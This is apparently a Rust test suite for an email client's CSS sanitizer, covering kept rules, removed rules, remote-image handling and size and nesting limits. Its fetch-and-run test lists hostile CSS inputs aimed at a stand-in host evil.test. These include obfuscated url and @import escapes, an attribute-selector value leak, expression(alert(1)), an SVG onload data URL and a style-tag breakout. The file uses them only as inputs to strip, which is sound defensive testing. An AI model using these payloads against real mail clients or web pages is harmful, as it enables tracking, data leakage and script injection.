//! Tests of styles: which stay as sent, which are removed, and which limits apply.

use std::collections::HashMap;

use proptest::prelude::*;

use super::{
    StepLimit,
    css::{
        CSS_BYTES_MAX, CSS_DECLARATIONS_MAX, CSS_DEPTH_MAX, CSS_RULES_MAX, CSS_SELECTORS_MAX, Css, CssLimit,
        is_simple,
    },
    html::{DisplayOptions, RemoteContent, RemovedCounts, SanitizedHtml, clean},
    sources::Sources,
    tests::assert_harmless,
};

fn pictures() -> HashMap<String, String> {
    [("logo@x".to_owned(), "attachments/4/logo.png".to_owned())].into()
}

fn shown(source: &str, dark: bool) -> SanitizedHtml {
    let how = DisplayOptions { dark, ..DisplayOptions::default() };
    clean(source, &how, pictures(), &StepLimit::default())
}

/// Returns the mail's own style sheets, concatenated.
fn sheets(html: &str) -> String {
    let own = html.split("<style").skip(2).filter_map(|rest| rest.split("</style>").next());
    own.map(|sheet| sheet.split_once('>').map_or("", |(_, rules)| rules)).collect()
}

fn sheet(css: &str) -> String {
    let clean = shown(&format!("<style>{css}</style><p>x"), false);
    assert_harmless(&clean.html, css);
    sheets(&clean.html)
}

fn attribute(css: &str) -> String {
    let sources = Sources::new(RemoteContent::Blocked, pictures());
    Css::new(&sources, false).attribute(css).unwrap_or_default().into_owned()
}

#[test]
fn what_lays_out_a_mail_stays() {
    for css in [
        "#outlook a{padding:0;}",
        "table,td{border-collapse:collapse;mso-table-lspace:0pt;}",
        "@media only screen and (min-width:480px){.mj-column-per-50{width:50% !important;max-width:50%;}}",
        "[data-ogsc] .x > a:hover{color:#0af;}",
        "a[href^=\"http\"]:not(.y)::after{content:\"\\\"\";}",
        ".a{background:#fff url(\"attachments/4/logo.png\") no-repeat;}",
        ".a{background-image:linear-gradient(rgba(0,0,0,.5),transparent);}",
        ".a{width:calc(100% - 20px);--x:1px;margin:var(--x);}",
        "@keyframes k{from{opacity:0;}50%{opacity:.5;}}",
        "@supports (display:grid){.a{display:grid;grid-template-columns:repeat(2,minmax(0,1fr));}}",
        ".a{color:red;&:hover{color:blue;}}",
        "@layer base,late;",
        "p+p~p{line-height:1.5;}",
    ] {
        let sent = css.replace("attachments/4/logo.png", "cid:logo@x");
        let (got, wanted) = (sheet(&sent), css);
        // A number may be written shorter, and blanks may differ.
        let same = |css: &str| css.replace("0.5", ".5").replace(' ', "");
        assert_eq!(same(&got), same(wanted), "{sent}");
    }
}

#[test]
fn classes_names_backgrounds_and_the_mode_stay() {
    for (doctype, written) in [
        ("", "<html>"),
        ("<!DOCTYPE html>", "<!doctype html><html>"),
        (
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">",
            "<!doctype html public \"-//W3C//DTD XHTML 1.0 Transitional//EN\"",
        ),
    ] {
        let source =
            format!("{doctype}<body bgcolor=\"#eee\" class=\"b\" id=\"top\" style=\"margin:0\"><p class=x>y");
        let html = shown(&source, false).html;
        assert!(html.starts_with(written), "{html}");
        assert!(
            html.contains(
                "<body bgcolor=\"#eee\" class=\"b\" id=\"top\" style=\"margin:0\"><p class=\"x\">y</p>"
            ),
            "{html}"
        );
    }
    let html = shown(
        "<style media=\"screen and (max-width:600px)\">p{x:y}</style><style type=text/less>p{}</style>",
        false,
    )
    .html;
    assert!(
        html.contains("<style media=\"screen and (max-width:600px)\">p{x:y;}</style>")
            && !html.contains("less"),
        "{html}"
    );
}

/// Each input once fetched something, ran code, or broke out of its element in some browser.
#[test]
fn what_fetches_or_runs_is_taken_out() {
    for (css, left) in [
        ("@import url(//evil.test/x);p{a:b}", "p{a:b;}"),
        ("@import '//evil.test/x' screen;", ""),
        ("@\\69mport '//evil.test/x';p{a:b}", "p{a:b;}"),
        ("@font-face{font-family:f;src:url(//evil.test/f)}p{a:b}", "p{a:b;}"),
        (
            "p{background:#fff url(//evil.test/x) no-repeat;color:red}",
            "p{background:#fff none no-repeat;color:red;}",
        ),
        ("p{background:\\75rl(//evil.test/x);color:red}", "p{background:none;color:red;}"),
        ("p{background:u\\72 l('//evil.test/x')}", "p{background:none;}"),
        // `ur/**/l(` is not a function in any browser.
        ("p{background:ur/**/l(//evil.test/x)}", "p{}"),
        ("p{background:/*x*/url(/**///evil.test/x)}", "p{background:none;}"),
        ("p{background:URL(\"//evil.test/x\")}", "p{background:none;}"),
        ("p{background:url(\"cid:logo@x\" //evil.test/x)}", "p{background:none;}"),
        ("p{background:image-set('//evil.test/x' 1x)}", "p{background:none;}"),
        ("p{background:-webkit-image-set(url(//evil.test/x) 1x)}", "p{background:none;}"),
        (
            "p{background:-webkit-cross-fade(url(//evil.test/x),url(//evil.test/y),50%)}",
            "p{background:none;}",
        ),
        ("p{background:image('//evil.test/x')}", "p{background:none;}"),
        ("p{background:src('//evil.test/x')}", "p{background:none;}"),
        ("p{background:element(#x)}p{background:paint(x)}", "p{background:none;}p{background:none;}"),
        ("p{--x:url(//evil.test/x)}p{background:var(--x)}", "p{--x:none;}p{background:var(--x);}"),
        ("p{width:expression(alert(1))}p{behavior:url(#default#time2)}", "p{}p{}"),
        ("p{width:fetch-me('//evil.test/x');color:red}", "p{color:red;}"),
        ("p{-moz-binding:url(//evil.test/x)}p{list-style:url(//evil.test/x)}", "p{}p{list-style:none;}"),
        ("p{cursor:url(//evil.test/x),auto}", "p{cursor:none,auto;}"),
        ("input[value^=a]{background:url(//evil.test/a)}", "input[value^=a]{background:none;}"),
        ("a:visited{background:url(//evil.test/v);color:red}", "a:visited{background:none;color:red;}"),
        ("p{a:b}</ style><!-- p{c:d} --> q{e:f}", "p{a:b;}q{e:f;}"),
        ("p{content:'</style><script>alert(1)</script>'}", "p{content:\"\";}"),
        ("p{content:'<\\/style>\\3c/style>'}", "p{content:\"\\3c /style>\\3c /style>\";}"),
        ("p{background:url(//evil.test/x", "p{background:none;}"),
        ("p{color:red;background:url('//evil.test/x", "p{color:red;background:none;}"),
        ("@media screen{p{color:red", "@media screen{p{color:red;}}"),
        ("p{background:url(data:image/svg+xml,<svg/onload=alert(1)>)}", "p{}"),
        ("p{background:url('data:image/svg+xml,<svg/onload=alert(1)>')}", "p{background:none;}"),
        ("@media (x:url(//evil.test/x)){p{a:b}}", ""),
        ("p[x=url(//evil.test/x)]{a:b}", ""),
        ("p<q{a:b}p{a:<b}", "p{}"),
        ("p{a:b;{background:url(//evil.test/x)}}", "p{a:b;}"),
        ("p{q{background:url(//evil.test/x)}}", "p{q{background:none;}}"),
        ("@namespace x url(//evil.test/x);@charset 'x';p{a:b}", "p{a:b;}"),
        ("@counter-style x{symbols:url(//evil.test/x)}", ""),
        ("p{a:b}}}}q{c:d}", "p{a:b;}"),
        ("p{filter:url(//evil.test/x#f)}p{clip-path:url(#f)}", "p{filter:none;}p{clip-path:none;}"),
        ("p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.test/x')}", "p{}"),
    ] {
        assert_eq!(sheet(css).replace(' ', ""), left.replace(' ', ""), "{css}");
    }
}

#[test]
fn attributes_are_held_to_the_same() {
    for (css, left) in [
        ("color:red;width:10px", "color:red;width:10px"),
        ("background:url(cid:logo@x)", "background:url(\"attachments/4/logo.png\");"),
        ("background:#fff url(cid:other@x);color:red", "background:#fff none;color:red;"),
        ("color:red;background:\\75rl(//evil.test/x)", "color:red;background:none;"),
        ("back/**/ground:u/**/rl(//evil.test/x)", ""),
        ("font-family:'a\\'b', \"c\"", "font-family:\"a'b\", \"c\";"),
        ("x:y}</style>", ""),
        ("color:red;@import '//evil.test/x';", "color:red;"),
        ("*zoom:1;color:red", "color:red;"),
    ] {
        assert_eq!(attribute(css), left, "{css}");
    }
}

/// Pictures of style sheets load like those of `<img>`: blocked and counted first, loaded when the reader
/// asks. Pictures of rules that match on hover or on visited links are never loaded.
#[test]
fn pictures_of_style_sheets_load_when_asked() {
    let look = |css: &str, remote| {
        let how = DisplayOptions { remote, ..DisplayOptions::default() };
        clean(&format!("<style>{css}</style><p>x"), &how, pictures(), &StepLimit::default())
    };
    for (css, left) in [
        (
            "p{background:#fff url(//a.test/x) no-repeat;color:red}",
            "p{background:#fffurl(\"https://a.test/x\")no-repeat;color:red;}",
        ),
        (
            "p{background-image:URL('http://a.test/x?a=1&b')}",
            "p{background-image:url(\"http://a.test/x?a=1&b\");}",
        ),
        ("li{list-style-image:u\\72l(https://a.test/x)}", "li{list-style-image:url(\"https://a.test/x\");}"),
        (
            "@media(max-width:600px){.a>td:first-child{background:url(https://a.test/x)}}",
            "@media(max-width:600px){.a>td:first-child{background:url(\"https://a.test/x\");}}",
        ),
        (
            "td:not(.b):nth-child(2n)::before{content:url(https://a.test/x)}",
            "td:not(.b):nth-child(2n)::before{content:url(\"https://a.test/x\");}",
        ),
        (
            "a{background:url(https://a.test/x);&:hover{color:red}}",
            "a{background:url(\"https://a.test/x\");&:hover{color:red;}}",
        ),
    ] {
        let blocked = look(css, RemoteContent::Blocked);
        assert_eq!((blocked.remote_items, blocked.taken.styles), (1, 0), "{css}");
        assert_eq!(blocked.remote_hosts, ["a.test"], "{css}");
        assert!(!blocked.html.contains("a.test"), "{css}: {}", blocked.html);
        let loaded = look(css, RemoteContent::Loaded);
        assert_eq!(sheets(&loaded.html).replace(' ', ""), left, "{css}");
        assert_eq!((loaded.remote_items, &loaded.remote_hosts), (1, &blocked.remote_hosts), "{css}");
    }
    for never in [
        "a:hover{background:url(https://a.test/x)}",
        "a:VISITED{background:url(https://a.test/x)}",
        "a:link{background:url(https://a.test/x)}",
        "p:not(:\\68over){background:url(https://a.test/x)}",
        "p:has(a:focus) b{background:url(https://a.test/x)}",
        "p::selection{background:url(https://a.test/x)}",
        "p{&:hover{q{background:url(https://a.test/x)}}}",
        "a:hover{@media(min-width:1px){background:url(https://a.test/x)}}",
        "@keyframes k{from{background:url(https://a.test/x)}}",
        "@scope(a:hover){p{background:url(https://a.test/x)}}",
        "p{--x:url(https://a.test/x)}",
        "p{background:image-set(url(https://a.test/x) 1x)}",
        "@font-face{font-family:f;src:url(https://a.test/x)}",
        "@import url(https://a.test/x);",
        "p{background:url(https://a.test/x) unheard-of(1)}",
    ] {
        for remote in [RemoteContent::Blocked, RemoteContent::Loaded] {
            let clean = look(never, remote);
            assert!(!clean.html.contains("a.test"), "{never}: {}", clean.html);
            assert_eq!(clean.remote_items, 0, "{never}");
            assert_ne!(clean.taken, RemovedCounts::default(), "{never}");
        }
    }
    let variable = "<p style=\"--x:url(https://a.test/x)\">";
    let how = DisplayOptions { remote: RemoteContent::Loaded, ..DisplayOptions::default() };
    let clean = clean(variable, &how, pictures(), &StepLimit::default());
    assert!(!clean.html.contains("a.test"), "{}", clean.html);
}

#[test]
fn what_was_taken_out_is_said() {
    let clean = shown(
        "<style>@import 'x';@font-face{src:url(//evil.test/x)}a:hover{background:url(//evil.test/x)}</style>\
         <link rel=stylesheet href=//evil.test/x><meta http-equiv=refresh content='0;url=//evil.test'>\
         <script>x</script><p onclick=x><a href=javascript:x>y</a><form><input><svg><a/></svg>",
        false,
    );
    let taken =
        RemovedCounts { scripts: 3, forms: 2, embedded: 1, fonts: 1, imports: 2, styles: 1, redirects: 1 };
    assert_eq!(clean.taken, taken);
    assert_eq!(
        clean.taken.in_words().join(", "),
        "3 scripts, 2 parts of forms, 1 embedded object, 1 web font, 2 linked style sheets, \
         1 style that loads or runs, 1 redirection"
    );
    assert_eq!(
        shown("<style>p{filter:progid:X.Y(z=1)}@charset 'x';</style><p>x", false).taken,
        RemovedCounts::default()
    );
}

#[test]
fn the_scheme_is_the_readers() {
    let css = "@media (prefers-color-scheme: dark){p{color:white}}@media (prefers-color-scheme:light){p{color:black}}";
    let source = format!("<style>{css}</style><p>x");
    let (light, dark) = (shown(&source, false), shown(&source, true));
    assert!(light.has_dark && dark.has_dark);
    assert_eq!(
        sheets(&light.html),
        "@media (max-width:0){p{color:white;}}@media (min-width:0){p{color:black;}}"
    );
    assert!(dark.html.contains("@media (min-width:0){p{color:white;}}@media (max-width:0){p{color:black;}}"));
    assert!(dark.html.contains("color-scheme:dark") && !dark.html.contains("invert"));
    let plain = shown("<p>x", true);
    assert!(!plain.has_dark && plain.html.contains("invert"));
    assert!(!shown("<p>x", false).html.contains("invert"));
}

#[test]
fn style_sheets_are_bounded() {
    let over = |css: &str| {
        let clean = shown(&format!("<style>{css}</style><p>x"), false);
        assert!(clean.over.is_none() && clean.html.ends_with("<p>x</p></body></html>"));
        (clean.css_over, sheets(&clean.html))
    };
    let (bytes, read) = over(&format!("p{{a:b}}/*{}*/q{{c:d}}", "x".repeat(CSS_BYTES_MAX)));
    assert_eq!((bytes, &*read), (Some(CssLimit::Bytes), "p{a:b;}"));
    let (rules, read) = over(&"p{}".repeat(CSS_RULES_MAX + 1));
    assert_eq!((rules, read.matches("p{}").count()), (Some(CssLimit::Rules), CSS_RULES_MAX));
    let (selectors, read) = over(&format!("{}p{{}}q{{}}", "p,".repeat(CSS_SELECTORS_MAX)));
    assert_eq!((selectors, &*read), (Some(CssLimit::Selectors), "q{}"));
    let (declarations, read) = over(&format!("p{{{}}}", "a:b;".repeat(CSS_DECLARATIONS_MAX + 1)));
    assert_eq!(
        (declarations, read.matches("a:b;").count()),
        (Some(CssLimit::Declarations), CSS_DECLARATIONS_MAX)
    );
    for (first, open) in [("", "@media x{"), ("", "p{"), ("p{a:", "calc("), ("@media ", "("), ("p", ":is(")] {
        let nested = |n: usize| format!("{first}{}", open.repeat(n));
        assert_eq!(over(&nested(usize::from(CSS_DEPTH_MAX) - 1)).0, None, "{open}");
        assert_eq!(over(&nested(50_000 / open.len())).0, Some(CssLimit::Depth), "{open}");
    }
    assert_eq!(over("p{a:b}").0, None);
}

/// All sheets of a mail share one budget.
#[test]
fn many_sheets_are_bounded_together() {
    let one = format!("<style>p{{a:b}}{}</style>", " ".repeat(10_000));
    let clean = shown(&one.repeat(100), false);
    assert_eq!(clean.css_over, Some(CssLimit::Bytes));
    let kept = sheets(&clean.html).matches("p{a:b;}").count();
    assert_eq!(kept, CSS_BYTES_MAX.div_ceil(one.len() - "<style></style>".len()));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(unify::cases(256, 8_192)))]

    /// The fast path agrees with its slow twin: an attribute that is not parsed contains nothing that would
    /// be removed.
    #[test]
    fn a_plain_attribute_is_what_the_tokens_say(text in "[a-c0-9 :;,.#%!-]{0,24}") {
        let sources = Sources::new(RemoteContent::Blocked, HashMap::new());
        let mut css = Css::new(&sources, false);
        let slow = css.attribute_by_tokens(&text);
        prop_assert_eq!(css.taken, RemovedCounts::default());
        // Both forms mean the same to a browser.
        let fast = css.attribute(&text).unwrap_or_default().into_owned();
        prop_assert_eq!(css.attribute_by_tokens(&fast), slow);
    }

    /// The fast paths agree with their slow twins: a simple name is written as the library serialises it, and
    /// a repeated attribute is written and counted just as it was the first time.
    #[test]
    fn what_is_written_fast_is_written_the_same(
        pieces in proptest::collection::vec(0usize..16, 0..8),
        times in 1usize..4,
    ) {
        const PIECES: [&str; 16] = [
            "color", ":", ";", "-x", "--y", "_z", "-1", "9", "\\3c", "é", " ", "url(x)", "'Open Sans'", "rgb(", ")", "}",
        ];
        let text: String = pieces.iter().map(|&piece| PIECES[piece]).collect();
        let sources = Sources::new(RemoteContent::Blocked, HashMap::new());
        let (mut fast, mut slow) = (Css::new(&sources, false), Css::new(&sources, false));
        // The quotes keep the attribute off the fast path for plain ones, which another test covers.
        let text = format!("x:'';{text}");
        for _ in 0..times {
            let written = fast.attribute(&text).unwrap_or_default().into_owned();
            prop_assert_eq!(written, slow.attribute_by_tokens(&text));
        }
        prop_assert_eq!((fast.taken, fast.seen.len(), fast.over), (slow.taken, slow.seen.len(), slow.over));
        let name: String = pieces.iter().map(|&piece| PIECES[piece]).collect();
        let mut serialised = String::new();
        cssparser::serialize_identifier(&name, &mut serialised).unwrap();
        prop_assert!(!is_simple(&name) || serialised == name, "{}", name);
    }

    /// Sanitized CSS is harmless, and stays the same when it is sanitized again.
    #[test]
    fn no_style_is_too_odd(pieces in proptest::collection::vec(0usize..44, 0..24)) {
        const PIECES: [&str; 44] = [
            "p", "{", "}", ":", ";", "(", ")", "[", "]", "\"", "'", "\\", "/*", "*/", "url(", "URL(", "\\75rl(",
            "//evil.test/x", "@import ", "@media ", "@font-face", "@\\69mport", "!important", "<!--", "-->",
            "</style>", "<", ">", "a", "1px", "#x", ".y", "\n", "\0", "\u{fffd}", "é", "--x", "var(", "calc(",
            "image-set(", "cid:logo@x", ",", "=", " ",
        ];
        let css: String = pieces.iter().map(|&piece| PIECES[piece]).collect();
        let once = shown(&format!("<style>{css}</style><p style=\"{}\">x", css.replace('"', "&quot;")), false);
        assert_harmless(&once.html, &css);
        let own = sheets(&once.html);
        let again = shown(&format!("<style>{}</style>", own.replace("attachments/4/logo.png", "cid:logo@x")), false);
        prop_assert_eq!(sheets(&again.html), own, "{}", css);
    }
}
